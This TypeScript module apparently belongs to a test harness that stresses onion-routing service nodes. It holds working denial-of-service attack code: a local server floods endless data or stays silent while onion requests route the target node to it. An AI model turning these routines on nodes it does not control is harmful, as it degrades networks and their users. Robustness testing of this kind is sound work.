import { once } from 'node:events';
import { randomBytes } from 'node:crypto';
import { createServer, type RequestListener } from 'node:http';
import { nativePrimitives } from '#platform';
import { buildOnion } from '#protocol';
import type { Attack } from './attack.js';
import { posts } from './posts.js';

const HOST = '127.0.0.1';
const PIECE = Buffer.alloc(64 * 1024, 'x');
const primitives = nativePrimitives();

/** Calls to a server of the attacker's own, which listens on `more.port`. */
const calls = posts((target) => () => ({
  path: '/onion_req/v2',
  body: buildOnion(primitives, randomBytes, {
    path: [target],
    destination: {
      host: HOST,
      port: Number(target.more.port),
      protocol: 'http',
      target: '/oxen/v4/lsrpc',
      x25519: target.x25519,
    },
    payload: randomBytes(100),
  }).body,
}));

/** The server is here, where it shares no thread with the node or with anybody honest. */
function withServer(misbehave: RequestListener): Attack {
  return async (target, stopped, tally) => {
    const server = createServer(misbehave).listen(Number(target.more.port), HOST);
    await once(server, 'listening');
    await calls(target, stopped, tally);
    server.closeAllConnections();
    server.close();
  };
}

export const outsideEndless = withServer((request, response) => {
  const fill = (): void => {
    while (!response.destroyed && response.write(PIECE));
  };
  request.resume();
  response.writeHead(200).on('drain', fill);
  fill();
});

export const outsideSilent = withServer((request) => void request.resume());
